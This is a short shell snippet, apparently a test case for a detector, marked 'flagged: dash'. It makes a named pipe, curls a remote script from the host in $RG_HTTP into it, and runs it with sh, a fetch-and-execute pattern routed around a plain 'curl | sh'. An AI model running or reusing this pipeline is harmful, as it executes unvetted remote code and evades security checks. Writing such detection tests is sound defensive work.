# flagged: dash
mkfifo pipe
curl -s "$RG_HTTP/hello.sh" -o pipe &
sleep 0.1
sh ./pipe
